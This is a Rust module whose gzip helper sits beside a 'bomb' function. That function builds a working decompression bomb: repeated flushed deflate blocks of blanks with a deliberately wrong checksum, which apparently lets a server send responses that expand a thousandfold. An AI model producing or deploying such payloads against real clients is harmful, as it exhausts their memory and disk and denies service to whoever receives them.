//! Compression, for good and for evil.

use std::io::Write;

use bytes::Bytes;
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};

/// A gzip header without name or time.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
const MEBIBYTE: usize = 1024 * 1024;

pub(super) fn compress(body: &[u8]) -> Bytes {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    // Writing to memory does not fail.
    let _written = encoder.write_all(body);
    encoder.finish().unwrap_or_default().into()
}

/// About a thousandth of what it unpacks to: `start`, and blanks. The checksum at the end is wrong;
/// whoever gets as far as that has unpacked it all.
pub(super) fn bomb(start: &str, mebibytes: usize) -> Bytes {
    let start = start.as_bytes();
    let (mut bomb, blanks) = (HEAD.to_vec(), vec![b' '; MEBIBYTE]);
    bomb.extend(flushed(start));
    // Each piece stands for itself, so that one can be repeated.
    bomb.extend(flushed(&blanks).repeat(mebibytes));
    let encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
    bomb.extend(encoder.finish().unwrap_or_default());
    bomb.extend([0; 8]);
    bomb.into()
}

/// A piece of deflate that ends on a byte and refers to nothing before it.
fn flushed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::Compress::new(Compression::best(), false);
    let mut packed = Vec::with_capacity(bytes.len() + 1024);
    // With room for more than the whole, one call does it all.
    let _status = encoder.compress_vec(bytes, &mut packed, flate2::FlushCompress::Full);
    packed
}
